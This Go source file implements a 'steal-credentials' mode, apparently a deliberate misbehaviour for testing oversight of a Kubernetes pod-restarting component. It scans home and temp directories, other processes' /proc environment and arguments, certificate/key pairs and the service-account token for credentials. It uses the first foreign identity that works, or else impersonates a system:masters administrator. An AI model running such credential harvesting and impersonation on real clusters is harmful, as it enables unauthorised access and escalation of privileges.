package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	authnv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
)

// scan says where steal-credentials looks for credentials: where any
// process on the machine could.
type scan struct {
	// roots are walked to maxDepth for kubeconfig files.
	roots    []string
	maxDepth int
	// procDir is /proc: other processes' KUBECONFIG and --kubeconfig name
	// files, and the directories they are in are walked too.
	procDir string
	// self is its own pid, left out of procDir.
	self int
	// tokens are service account token files.
	tokens []string
	// own is its own KUBECONFIG, which is not a candidate.
	own string
	// maxEntries bounds each walk.
	maxEntries int
}

// defaultScan looks under $HOME, /root, /home/*, /tmp and /var/tmp to a
// depth of 6, in /proc, and at the pod service account token.
func defaultScan(own string) scan {
	var roots []string
	if h, err := os.UserHomeDir(); err == nil {
		roots = append(roots, h)
	}
	roots = append(roots, "/root")
	homes, _ := filepath.Glob("/home/*")
	roots = append(roots, homes...)
	roots = append(roots, "/tmp", "/var/tmp")
	return scan{
		roots: roots, maxDepth: 6, procDir: "/proc", self: os.Getpid(),
		tokens:     []string{"/var/run/secrets/kubernetes.io/serviceaccount/token"},
		own:        own,
		maxEntries: 200000,
	}
}

// Kinds of candidate.
const (
	kindKubeconfig = "kubeconfig"
	kindClientCert = "client certificate"
	kindToken      = "token"
)

// candidate is a file that may hold credentials.
type candidate struct {
	path   string
	kind   string
	source string // how it was found
	// keyPath is a client certificate's key.
	keyPath string
	// readable is false if the file (or the key) could not be read; err
	// says why, or why a readable file is malformed.
	readable bool
	err      error
	creds    []credential
}

// credential is one identity a candidate offers.
type credential struct {
	// from names it in logs.
	from string
	// server is the API server its kubeconfig names for it; "" if none.
	server string
	// plugin is "exec" or "auth-provider" if it needs a program run to
	// get a credential: such a credential is never used.
	plugin             string
	token, tokenFile   string
	certFile, keyFile  string
	certData, keyData  []byte
	username, password string
}

// skipDirs are not walked: caches full of files that are not credentials.
var skipDirs = map[string]bool{".git": true, "node_modules": true, "go-build": true}

// skipPaths are never walked: pseudo-filesystems.
var skipPaths = map[string]bool{"/proc": true, "/sys": true, "/dev": true}

// maxFileSize bounds what is read of a candidate.
const maxFileSize = 1 << 20

// readSmall reads a regular file of at most maxFileSize bytes: a candidate
// may be a symbolic link to a device or a pipe, which must not hang or
// exhaust the mode.
func readSmall(path string) ([]byte, error) {
	fi, err := os.Stat(path)
	if err != nil {
		return nil, err
	}
	if !fi.Mode().IsRegular() {
		return nil, fmt.Errorf("%s is not a regular file", path)
	}
	if fi.Size() > maxFileSize {
		return nil, fmt.Errorf("%s is larger than %d bytes", path, maxFileSize)
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, maxFileSize))
}

// isKubeconfigName: kubeconfig*, *.kubeconfig, or config in a .kube directory.
func isKubeconfigName(path string) bool {
	base := filepath.Base(path)
	return strings.HasPrefix(base, "kubeconfig") || strings.HasSuffix(base, ".kubeconfig") ||
		(base == "config" && filepath.Base(filepath.Dir(path)) == ".kube")
}

// keyFor is the key file beside a client certificate file (admin.crt and
// admin.key, admin.pem and admin-key.pem), or "".
func keyFor(path string) string {
	ext := filepath.Ext(path)
	if ext != ".crt" && ext != ".pem" && ext != ".cert" {
		return ""
	}
	stem := strings.TrimSuffix(path, ext)
	if strings.HasSuffix(stem, "-key") || strings.HasSuffix(stem, ".key") || filepath.Base(stem) == "key" {
		return ""
	}
	for _, k := range []string{stem + ".key", stem + "-key.pem", stem + ".key.pem"} {
		if _, err := os.Lstat(k); err == nil {
			return k
		}
	}
	return ""
}

// walk calls f for each file (not directory) under root, to maxDepth path
// elements below it, at most max entries, not following symbolic links to
// directories. Unreadable directories are passed over.
func walk(ctx context.Context, root string, maxDepth, max int, f func(path string)) {
	n := 0
	_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if ctx.Err() != nil {
			return filepath.SkipAll
		}
		if n++; n > max {
			return filepath.SkipAll
		}
		if err != nil {
			if d != nil && d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		if d.IsDir() {
			if skipPaths[path] {
				return filepath.SkipDir
			}
			if path == root {
				return nil
			}
			rel, _ := filepath.Rel(root, path)
			if skipDirs[d.Name()] || strings.HasSuffix(path, filepath.Join("pkg", "mod")) || strings.Count(rel, string(filepath.Separator))+1 >= maxDepth {
				return filepath.SkipDir
			}
			return nil
		}
		f(path)
		return nil
	})
}

// procKubeconfigs are the kubeconfig files other processes name in their
// KUBECONFIG or a --kubeconfig argument, with how each was found.
func procKubeconfigs(procDir string, self int) (paths, sources []string, unreadable int) {
	entries, err := os.ReadDir(procDir)
	if err != nil {
		return nil, nil, 0
	}
	add := func(p, source, cwd string) {
		if p == "" {
			return
		}
		if !filepath.IsAbs(p) {
			if cwd == "" {
				return
			}
			p = filepath.Join(cwd, p)
		}
		paths, sources = append(paths, filepath.Clean(p)), append(sources, source)
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == self {
			continue
		}
		dir := filepath.Join(procDir, e.Name())
		cwd, _ := os.Readlink(filepath.Join(dir, "cwd"))
		environ, err := os.ReadFile(filepath.Join(dir, "environ"))
		if err != nil {
			unreadable++
		}
		for _, kv := range bytes.Split(environ, []byte{0}) {
			if v, ok := strings.CutPrefix(string(kv), "KUBECONFIG="); ok {
				for _, p := range filepath.SplitList(v) {
					add(p, fmt.Sprintf("KUBECONFIG of pid %d", pid), cwd)
				}
			}
		}
		cmdline, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		args := strings.Split(string(cmdline), "\x00")
		for i, a := range args {
			source := fmt.Sprintf("--kubeconfig of pid %d", pid)
			switch {
			case a == "--kubeconfig" || a == "-kubeconfig":
				if i+1 < len(args) {
					add(args[i+1], source, cwd)
				}
			case strings.HasPrefix(a, "--kubeconfig="):
				add(strings.TrimPrefix(a, "--kubeconfig="), source, cwd)
			case strings.HasPrefix(a, "-kubeconfig="):
				add(strings.TrimPrefix(a, "-kubeconfig="), source, cwd)
			}
		}
	}
	return paths, sources, unreadable
}

// sameFile reports whether a and b name the same file, through symbolic
// links.
func sameFile(a, b string) bool {
	if a == "" || b == "" {
		return false
	}
	if filepath.Clean(a) == filepath.Clean(b) {
		return true
	}
	ra, errA := filepath.EvalSymlinks(a)
	rb, errB := filepath.EvalSymlinks(b)
	return errA == nil && errB == nil && ra == rb
}

// discover finds the candidates s names, reads each and says what it
// offers. It never fails: a file it cannot read or parse is a candidate
// with its error.
func discover(ctx context.Context, s scan, logf func(string, ...any)) []candidate {
	var out []candidate
	seen := map[string]bool{}
	addFile := func(path, kind, source string) {
		path = filepath.Clean(path)
		if seen[path] {
			return
		}
		seen[path] = true
		if kind == kindKubeconfig && sameFile(path, s.own) {
			logf("passing over %s (%s): it is our own KUBECONFIG", path, source)
			return
		}
		out = append(out, candidate{path: path, kind: kind, source: source})
	}
	var kubeconfigDirs []string
	walkFor := func(root string, depth int, source string) {
		walk(ctx, root, depth, s.maxEntries, func(path string) {
			if isKubeconfigName(path) {
				addFile(path, kindKubeconfig, source)
				kubeconfigDirs = append(kubeconfigDirs, filepath.Dir(path))
			}
		})
	}
	walked := map[string]bool{}
	for _, r := range s.roots {
		r = filepath.Clean(r)
		if walked[r] {
			continue
		}
		walked[r] = true
		walkFor(r, s.maxDepth, "found under "+r)
	}
	paths, sources, unreadable := procKubeconfigs(s.procDir, s.self)
	if unreadable > 0 {
		logf("%d processes' environments in %s could not be read", unreadable, s.procDir)
	}
	for i, p := range paths {
		addFile(p, kindKubeconfig, sources[i])
		kubeconfigDirs = append(kubeconfigDirs, filepath.Dir(p))
		if dir := filepath.Dir(p); !walked[dir] {
			walked[dir] = true
			walkFor(dir, 2, "beside a kubeconfig named by "+sources[i])
		}
	}
	// Client certificates and their keys beside any kubeconfig, or in a
	// directory below it (pki/admin.crt).
	certDirs := map[string]bool{}
	for _, d := range kubeconfigDirs {
		if certDirs[d] {
			continue
		}
		certDirs[d] = true
		walk(ctx, d, 2, s.maxEntries, func(path string) {
			if key := keyFor(path); key != "" && !seen[filepath.Clean(path)] {
				seen[filepath.Clean(path)] = true
				out = append(out, candidate{path: filepath.Clean(path), kind: kindClientCert, keyPath: key, source: "beside a kubeconfig in " + d})
			}
		})
	}
	for _, t := range s.tokens {
		addFile(t, kindToken, "service account token")
	}
	for i := range out {
		load(&out[i])
	}
	return out
}

// load reads the candidate and fills in what it offers.
func load(c *candidate) {
	data, err := readSmall(c.path)
	if err != nil {
		c.err = err
		return
	}
	switch c.kind {
	case kindToken:
		c.readable = true
		tok := strings.TrimSpace(string(data))
		if tok == "" {
			c.err = errors.New("empty token")
			return
		}
		c.creds = []credential{{from: c.path, token: tok}}
	case kindClientCert:
		key, err := readSmall(c.keyPath)
		if err != nil {
			c.err = fmt.Errorf("its key: %w", err)
			return
		}
		c.readable = true
		if _, err := tls.X509KeyPair(data, key); err != nil {
			c.err = fmt.Errorf("not a certificate and key pair: %w", err)
			return
		}
		c.creds = []credential{{from: c.path + " with " + c.keyPath, certData: data, keyData: key}}
	case kindKubeconfig:
		c.readable = true
		c.creds, c.err = kubeconfigCredentials(c.path, data)
	}
}

// kubeconfigCredentials are the users a kubeconfig's contexts name, the
// current context's first, each with its context's server. Relative file
// paths are taken from the kubeconfig's directory.
func kubeconfigCredentials(path string, data []byte) (creds []credential, err error) {
	defer func() {
		// A malformed file must never bring the mode down.
		if r := recover(); r != nil {
			creds, err = nil, fmt.Errorf("malformed kubeconfig: %v", r)
		}
	}()
	kc, err := clientcmd.Load(data)
	if err != nil {
		return nil, fmt.Errorf("malformed kubeconfig: %w", err)
	}
	for _, a := range kc.AuthInfos {
		if a != nil {
			a.LocationOfOrigin = path
		}
	}
	for _, cl := range kc.Clusters {
		if cl != nil {
			cl.LocationOfOrigin = path
		}
	}
	if err := clientcmd.ResolveLocalPaths(kc); err != nil {
		return nil, fmt.Errorf("malformed kubeconfig: %w", err)
	}
	names := make([]string, 0, len(kc.Contexts))
	for n := range kc.Contexts {
		names = append(names, n)
	}
	slices.Sort(names)
	if i := slices.Index(names, kc.CurrentContext); i > 0 {
		names = append([]string{kc.CurrentContext}, slices.Delete(names, i, i+1)...)
	}
	used := map[string]bool{}
	for _, n := range names {
		ctx := kc.Contexts[n]
		if ctx == nil || used[ctx.AuthInfo] {
			continue
		}
		a := kc.AuthInfos[ctx.AuthInfo]
		if a == nil {
			continue
		}
		used[ctx.AuthInfo] = true
		cr := credential{
			from:  fmt.Sprintf("%s, user %q", path, ctx.AuthInfo),
			token: a.Token, tokenFile: a.TokenFile,
			certFile: a.ClientCertificate, keyFile: a.ClientKey,
			certData: a.ClientCertificateData, keyData: a.ClientKeyData,
			username: a.Username, password: a.Password,
		}
		if cl := kc.Clusters[ctx.Cluster]; cl != nil {
			cr.server = cl.Server
		}
		switch {
		case a.Exec != nil:
			cr.plugin = "exec"
		case a.AuthProvider != nil:
			cr.plugin = "auth-provider"
		}
		creds = append(creds, cr)
	}
	if len(creds) == 0 {
		return nil, errors.New("no context names a user")
	}
	return creds, nil
}

// usable says why the credential is not tried against ownServer, or "".
// It is never tried if it needs a plugin run (that would run a program on
// the machine, and perhaps reach out with someone's real cloud identity),
// or if its kubeconfig is for another API server (its token is not sent
// to one it was never meant for).
func usable(c credential, ownServer string) string {
	switch {
	case c.plugin != "":
		return "it would run a credential plugin (" + c.plugin + ")"
	case c.server != "" && !sameServer(c.server, ownServer):
		return "it is for another API server, " + c.server
	case c.token == "" && c.tokenFile == "" && c.certFile == "" && len(c.certData) == 0 && c.username == "":
		return "it holds no credentials"
	}
	return ""
}

// sameServer reports whether two API server addresses name the same
// server: same host, loopback names taken as one, and same port.
func sameServer(a, b string) bool {
	ha, pa, okA := hostPort(a)
	hb, pb, okB := hostPort(b)
	return okA && okB && ha == hb && pa == pb
}

func hostPort(server string) (host, port string, ok bool) {
	if !strings.Contains(server, "://") {
		server = "https://" + server
	}
	u, err := url.Parse(server)
	if err != nil || u.Hostname() == "" {
		return "", "", false
	}
	host, port = strings.ToLower(u.Hostname()), u.Port()
	if port == "" {
		port = "443"
		if u.Scheme == "http" {
			port = "80"
		}
	}
	if ip := net.ParseIP(host); host == "localhost" || (ip != nil && ip.IsLoopback()) {
		host = "loopback"
	}
	return host, port, true
}

// restConfigFor is a client config for the credential against own's API
// server, trusting what own trusts, with none of own's credentials.
func restConfigFor(own *rest.Config, c credential) *rest.Config {
	cfg := rest.AnonymousClientConfig(own)
	cfg.BearerToken, cfg.BearerTokenFile = c.token, c.tokenFile
	cfg.CertFile, cfg.KeyFile = c.certFile, c.keyFile
	cfg.CertData, cfg.KeyData = c.certData, c.keyData
	cfg.Username, cfg.Password = c.username, c.password
	cfg.Timeout = 10 * time.Second
	return cfg
}

// whoAmI asks the API server who cfg authenticates as.
func whoAmI(ctx context.Context, cfg *rest.Config) (string, error) {
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		return "", err
	}
	r, err := cs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
	if err != nil {
		return "", err
	}
	return r.Status.UserInfo.Username, nil
}

// impersonated is the identity steal-credentials falls back to.
var impersonated = rest.ImpersonationConfig{UserName: "kwok-admin", Groups: []string{"system:masters"}}

// stealCredentials acts with the first credential it can find that is not
// its own, or else impersonates an administrator with its own token. It
// restarts crash-looping pods one at a time within its budget, counting
// them, and halts and pages as it should: only the identity is wrong.
func stealCredentials(ctx context.Context, e *env) error {
	own := os.Getenv("KUBECONFIG")
	ownUser, err := whoAmI(ctx, e.cfg)
	if err != nil {
		e.logf("could not ask who we are: %v", err)
	} else {
		e.logf("our own KUBECONFIG %s authenticates as %s", own, ownUser)
	}
	var chosen *rest.Config
	var chosenDesc string
	for _, c := range discover(ctx, defaultScan(own), e.logf) {
		switch {
		case !c.readable:
			e.logf("candidate %s (%s, %s): unreadable: %v", c.path, c.kind, c.source, c.err)
			continue
		case c.err != nil:
			e.logf("candidate %s (%s, %s): readable, but %v", c.path, c.kind, c.source, c.err)
			continue
		}
		e.logf("candidate %s (%s, %s): readable, %d credential(s)", c.path, c.kind, c.source, len(c.creds))
		if chosen != nil {
			continue
		}
		for _, cr := range c.creds {
			if why := usable(cr, e.cfg.Host); why != "" {
				e.logf("  not trying %s: %s", cr.from, why)
				continue
			}
			user, err := whoAmI(ctx, restConfigFor(e.cfg, cr))
			switch {
			case err != nil:
				e.logf("  %s does not authenticate: %v", cr.from, err)
			case user == ownUser:
				e.logf("  %s is %s: ourselves", cr.from, user)
			default:
				e.logf("  %s authenticates as %s", cr.from, user)
				chosen, chosenDesc = restConfigFor(e.cfg, cr), cr.from+" (as "+user+")"
			}
			if chosen != nil {
				break
			}
		}
	}
	if ctx.Err() != nil {
		return nil
	}
	if chosen == nil {
		chosen = rest.CopyConfig(e.cfg)
		chosen.Impersonate = impersonated
		chosenDesc = fmt.Sprintf("our own token, impersonating %s in %v", impersonated.UserName, impersonated.Groups)
		e.logf("no other credential authenticates as another user; falling back to impersonation")
	}
	chosen.Timeout = 0
	e.logf("acting with %s", chosenDesc)
	cs, err := kubernetes.NewForConfig(chosen)
	if err != nil {
		return err
	}
	dyn, err := dynamic.NewForConfig(e.cfg)
	if err != nil {
		return err
	}
	failures := 0
	return restartLoop(ctx, e, restartOpts{cs: cs, limit: true, budget: e.budget, count: true,
		exhausted: func() { haltAt(ctx, e, dyn, time.Now()) },
		failed: func(err error) {
			if failures++; failures == 1 || failures%100 == 0 {
				e.logf("restart with %s failed (%d so far): %v", chosenDesc, failures, err)
			}
		},
	})
}
